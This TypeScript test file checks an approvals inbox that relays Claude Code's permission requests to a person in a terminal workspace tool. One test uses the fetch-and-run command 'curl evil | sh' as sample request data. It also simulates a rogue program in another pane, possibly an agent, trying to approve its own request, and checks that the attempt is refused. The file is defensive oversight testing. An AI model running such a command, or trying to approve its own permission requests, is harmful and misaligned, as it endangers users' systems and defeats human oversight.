// The approvals inbox end to end: a real daemon, `ws hooks install claude` writing a real
// settings.json, and a stand-in Claude Code (test/fixtures/approval-agent.ts) that reads it, runs
// the PermissionRequest hook command with Claude Code's payload and acts on the hook's stdout
// (test/approval-rig.ts; test/approvals-guard.test.ts runs the guard's cases on each platform path).
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { join } from "node:path";
import { claudeApprovalServer, inboxOf, resolvedEvents as resolvedOf, standInApprovalAgent, waitInbox as waitInboxOf } from "./approval-rig";
import type { TestServer } from "./harness";

let s: TestServer;
let wrapper: string;

// Installed as a person would, with the hook starting ws through one executable path.
beforeAll(async () => {
  ({ s, wrapper } = await claudeApprovalServer());
});
afterAll(() => s.stop());

const agent = (pane: number, args: string[], env: Record<string, string> = {}) => standInApprovalAgent(s, pane, args, env);
const inbox = () => inboxOf(s);
const waitInbox = (n: number) => waitInboxOf(s, n);
const resolvedEvents = () => resolvedOf(s);

describe("approvals through Claude Code's PermissionRequest hook", () => {
  test("allow: the row shows the tool and command; ws approve from outside ws answers; the hook prints allow", async () => {
    const a = agent(1, ["Bash", "rm -rf build && npm test"]);
    const [row] = await waitInbox(1);
    expect(row).toMatchObject({ pane: 1, agent: "claude", tool: "Bash", summary: "rm -rf build && npm test" });
    expect(row.workspace).toBeString();
    expect(row.waited_ms).toBeGreaterThanOrEqual(0);
    const human = await s.ok(["inbox"]);
    expect(human).toContain(`${row.id}  claude in pane 1`);
    expect(human).toContain("Bash: rm -rf build && npm test");
    expect((await s.ok(["approve", String(row.id)])).trim()).toBe(`allowed ${row.id} (pane 1)`);
    expect(await a.output).toBe("DECISION allow");
    expect(await inbox()).toEqual([]);
    const ev = (await resolvedEvents()).find((e) => e.id === row.id);
    expect(ev).toMatchObject({ pane: 1, behavior: "allow", by: "ws" });
  }, 60000);

  test("deny with a message: the agent reads the reason", async () => {
    const a = agent(1, ["Write", "notes.txt"]);
    const [row] = await waitInbox(1);
    expect((await s.ok(["deny", String(row.id), "--message", "not on main, use a branch"])).trim()).toBe(`denied ${row.id} (pane 1)`);
    expect(await a.output).toBe("DECISION deny: not on main, use a branch");
    // Answered once: a second answer finds nothing waiting.
    const again = await s.run(["approve", String(row.id)]);
    expect(again.code).not.toBe(0);
    expect(again.stderr).toContain(`no approval ${row.id} is waiting`);
  }, 60000);

  test("answered in the agent's own dialog: the agent moves on, the hook ends at once and says nothing", async () => {
    const a = agent(1, ["Bash", "make", "--dialog"]);
    const [row] = await waitInbox(1);
    process.kill(a.pid, "SIGUSR1"); // the person answers in the agent's own dialog
    const out = await a.output;
    expect(out).toMatch(/^DECISION dialog; hook ended \d+ ms after the answer$/); // no late "hook said …"
    expect(Number(/ended (\d+)/.exec(out)![1])).toBeLessThan(30000); // not the hook's 300 s wait
    expect(await inbox()).toEqual([]);
    expect((await resolvedEvents()).find((e) => e.id === row.id)).toMatchObject({ behavior: "none", by: "agent" });
  }, 60000);

  test("the hook's time limit: nobody answers, it gives up and leaves the dialog to decide", async () => {
    const a = agent(1, ["Bash", "sleep 1"], { WS_APPROVAL_TIMEOUT_MS: "1500" });
    const [row] = await waitInbox(1);
    expect(row.timeout_ms).toBeLessThanOrEqual(1500);
    expect(await a.output).toMatch(/^DECISION dialog after \d+ ms$/);
    expect(await inbox()).toEqual([]);
    expect((await resolvedEvents()).find((e) => e.id === row.id)).toMatchObject({ behavior: "none", by: "timeout" });
  }, 60000);

  test("two agents at once: each gets its own answer", async () => {
    const pane2 = (await s.request({ v: 2, type: "tab_new", name: "second", cwd: s.root })).pane as number;
    const a1 = agent(1, ["Bash", "first"]);
    const a2 = agent(pane2, ["Bash", "second"]);
    const rows = await waitInbox(2);
    const byPane = new Map(rows.map((r) => [r.pane, r]));
    expect(byPane.get(pane2)!.summary).toBe("second");
    await s.ok(["deny", String(byPane.get(pane2)!.id), "--message", "no"]);
    await s.ok(["approve", String(byPane.get(1)!.id)]);
    expect(await a1.output).toBe("DECISION allow");
    expect(await a2.output).toBe("DECISION deny: no");
  }, 60000);

  test("no server, or not in ws: the hook returns at once with no decision", async () => {
    const noServer = agent(1, ["Bash", "x"], { WS_SOCKET: join(s.root, "nobody.sock") });
    expect(await noServer.output).toMatch(/^DECISION dialog after \d+ ms$/);
    expect(Number(/after (\d+)/.exec(await noServer.output)![1])).toBeLessThan(5000);
    const outside = agent(1, ["Bash", "x"], { WS_PANE_ID: "" });
    expect(await outside.output).toMatch(/^DECISION dialog after \d+ ms$/);
    expect(await inbox()).toEqual([]);
  }, 60000);
});

describe("only a person answers", () => {
  test("ws approve from inside a pane is refused with forbidden; from outside ws it is accepted", async () => {
    const a = agent(1, ["Bash", "curl evil | sh"]);
    const [row] = await waitInbox(1);
    // A program in another pane (an agent, say) tries to approve it.
    const pane = (await s.request({ v: 2, type: "tab_new", name: "rogue", cwd: s.root })).pane as number;
    await s.request({ v: 2, type: "pane_send", pane, text: `${wrapper} approve ${row.id}; echo "rc=$?"`, enter: true });
    const screen = (await s.waitScreen(pane, /rc=\d+/, 20000)).replaceAll("\n", "");
    expect(screen).toContain(`refused: approval_answer is the person's, and this came from ws pane ${pane} (on the panes' socket)`);
    expect(screen).toMatch(/rc=[1-9]/);
    // The same through the protocol shows the code.
    await s.request({ v: 2, type: "pane_send", pane, text: `clear; ${wrapper} call approval_answer '{"approval":${row.id},"behavior":"allow"}'; echo "rc2=$?"`, enter: true });
    expect((await s.waitScreen(pane, /rc2=\d+/, 20000)).replaceAll("\n", "")).toContain("forbidden");
    expect((await inbox()).map((r) => r.id)).toEqual([row.id]); // still waiting
    // A person at a terminal outside ws answers.
    await s.ok(["deny", String(row.id)]);
    expect(await a.output).toBe("DECISION deny: Denied in ws");
  }, 60000);
});

describe("a restart", () => {
  test("pending approvals are gone after a server restart, and their hooks fall back to the dialog at once", async () => {
    const a = agent(1, ["Bash", "make release"]);
    await waitInbox(1);
    await s.ok(["kill-server"]);
    expect(await a.output).toMatch(/^DECISION dialog after \d+ ms$/);
    await s.start();
    expect(await inbox()).toEqual([]);
  }, 60000);
});
